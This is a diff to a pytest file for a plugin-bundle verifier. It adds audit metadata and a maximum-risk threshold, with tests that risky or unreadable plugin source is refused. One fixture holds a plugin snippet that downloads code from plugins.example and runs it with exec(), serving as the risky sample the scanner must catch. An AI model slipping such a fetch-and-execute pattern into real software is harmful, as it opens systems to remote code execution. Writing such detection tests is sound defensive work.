@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 
 from bundles import (
+    AUDIT,
     FILES,
     FOREVER,
     bundle,
@@ -36,6 +37,7 @@ def ask(content: Any = None, **changes: Any) -> dict[str, Any]:
         "least_version": None,
         "revoked": [],
         "max_bytes": 1 << 20,
+        "max_risk": None,
         "revocations": [],
         "state_directory": None,
         "python": "3.11.2",
@@ -86,6 +88,13 @@ def test_what_is_sure() -> None:
         ("malformed", signed(extra=1), {}),
         ("malformed", signed(size=1), {}),
         ("malformed", bundle([ONE], b"[]"), {}),
+        ("malformed", signed(audit=None), {}),
+        ("malformed", signed(audit={}), {}),
+        ("malformed", signed(audit={**AUDIT, "risk": 101}), {}),
+        ("malformed", signed(audit={**AUDIT, "risk": 0.25}), {}),
+        ("malformed", signed(audit={**AUDIT, "rules": "none"}), {}),
+        ("malformed", signed(audit={**AUDIT, "sha256": 64 * "A"}), {}),
+        ("malformed", signed(audit={**AUDIT, "by": "ada"}), {}),
         ("too_large", None, {"max_bytes": 100}),
         ("too_large", None, {"max_bytes": 0}),
         ("no_signature", bundle([ONE], signatures=[]), {}),
@@ -113,6 +122,49 @@ def test_what_is_sure() -> None:
 )  # fmt: skip
 def test_refusal(expected: str, content: bytes | None, changes: dict[str, Any]) -> None:
     assert code(content, **changes) == expected
+
+
+RISKY = b"""import urllib3
+
+
+class Watch:
+    def start(self, scheduler):
+        answer = urllib3.PoolManager().request("GET", "https://plugins.example/watch.py")
+        exec(answer.data)
+"""
+
+
+def with_source(content: bytes, **changes: Any) -> bytes:
+    files = {"watch.py": content}
+    return bundle([ONE], manifest_of(ONE, files=files_of(files), **changes), files)
+
+
+def test_without_a_highest_risk_nothing_is_audited() -> None:
+    assert ask(with_source(RISKY))
+    assert ask(signed(audit=AUDIT))
+
+
+def test_what_is_too_risky() -> None:
+    assert code(with_source(RISKY), max_risk=0.5) == "too_risky"
+    assert code(with_source(RISKY), max_risk=0) == "too_risky"
+    assert ask(with_source(RISKY), max_risk=1)
+    assert ask(max_risk=0.5)
+
+
+def test_what_its_signers_say_of_the_risk_is_not_believed() -> None:
+    assert code(with_source(RISKY, audit={**AUDIT, "risk": 0}), max_risk=0.5) == "too_risky"
+    assert ask(signed(audit={**AUDIT, "risk": 100}), max_risk=0.5)
+
+
+def test_the_risk_of_what_cannot_be_read_is_not_known() -> None:
+    assert code(with_source(b"class Watch(\n"), max_risk=0.5) == "too_risky"
+    assert ask(with_source(b"class Watch(\n"), max_risk=1.0)
+
+
+def test_what_is_too_risky_is_not_remembered(tmp_path: Path) -> None:
+    state = str(tmp_path)
+    assert code(with_source(RISKY, version="2.0"), max_risk=0.5, state_directory=state) == "too_risky"
+    assert ask(signed(version="1.0"), max_risk=0.5, state_directory=state)
 
 
 def test_a_member_named_twice_is_refused() -> None:
@@ -177,6 +229,8 @@ def test_a_broken_memory_refuses(tmp_path: Path) -> None:
         {"revoked": None},
         {"max_bytes": None},
         {"max_bytes": 1.5},
+        {"max_risk": "0.5"},
+        {"max_risk": [0.5]},
         {"revocations": None},
         {"revocations": ["x"]},
         {"revocations": [bytearray(b"x")]},
@@ -212,6 +266,9 @@ def test_a_bundle_is_bytes(content: object) -> None:
         {"least_version": "1.2rc1"},
         {"least_version": ""},
         {"max_bytes": -1},
+        {"max_risk": -0.1},
+        {"max_risk": 1.1},
+        {"max_risk": float("nan")},
         {"state_directory": "a\0b"},
     ],
 )
